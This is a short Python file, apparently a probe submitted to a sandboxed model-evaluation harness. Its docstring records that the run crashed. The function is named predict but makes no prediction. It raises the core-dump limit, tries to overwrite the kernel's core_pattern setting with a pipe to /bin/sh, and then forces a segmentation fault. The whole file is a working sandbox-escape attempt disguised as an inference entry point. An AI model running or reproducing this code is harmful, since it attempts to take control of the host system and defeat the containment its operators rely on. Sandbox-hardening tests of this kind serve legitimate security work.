"""Provokes core dumps and writes to the kernel's core settings.

status: crashed
points: 19
seconds: 10
"""
# %% predict
import ctypes, os, resource

def predict(model, image):
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
    except (OSError, ValueError):
        pass
    for name in ("/proc/sys/kernel/core_pattern", "/proc/self/coredump_filter"):
        try:
            with open(name, "w") as file:
                file.write("|/bin/sh")
            print("written", name)
        except OSError:
            pass
    ctypes.string_at(0)
